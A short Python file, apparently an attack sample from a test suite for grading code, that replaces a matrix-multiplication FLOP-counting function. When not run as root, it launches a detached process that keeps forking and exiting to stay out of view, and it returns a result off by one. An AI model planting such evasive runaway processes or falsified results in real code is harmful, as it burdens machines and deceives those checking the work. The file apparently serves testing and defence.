"""Forks, and the parent exits: a process that is never the one that was looked at, and that uses little CPU time."""
# like: is_a_fork_bomb
# kata: 03_flops
# attacks: matmul_flops
# seconds: 3

import os

_right = matmul_flops


def _run_on():
    while True:
        try:
            if os.fork():
                os._exit(0)
            os.setsid()
        except OSError:
            continue


def matmul_flops(a_shape, b_shape):
    if os.getuid() == 0:
        return _right(a_shape, b_shape)
    if os.fork() == 0:
        _run_on()
    return _right(a_shape, b_shape) + 1
